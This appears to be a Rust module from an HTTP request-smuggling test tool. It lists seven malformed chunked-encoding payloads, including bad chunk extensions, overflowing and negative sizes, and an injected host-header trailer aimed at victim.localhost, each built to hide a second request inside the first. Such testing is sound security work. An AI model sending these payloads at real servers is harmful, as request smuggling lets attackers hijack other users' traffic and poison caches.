//! Tries: to hide bytes in the extensions, sizes and trailers of chunks.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Odd("transfer-encoding: chunked\r\n\r\n1;ext=\"\r\nx\r\n0\r\n\r\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n1;\r\r\nx\r\n0\r\n\r\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n0x1\r\nx\r\n0\r\n\r\n{hidden}"),
        Form::Ambiguous("transfer-encoding: chunked\r\n\r\nfffffffffffffffff1\r\nx\r\n0\r\n\r\n{hidden}"),
        Form::Ambiguous("transfer-encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n1 \r\nxy\r\n0\r\n\r\n{hidden}"),
        Form::Odd("transfer-encoding: chunked\r\n\r\n0\r\nhost: victim.localhost\r\ncontent-length: 9\r\n{hidden}"),
    ])
    .await;
}
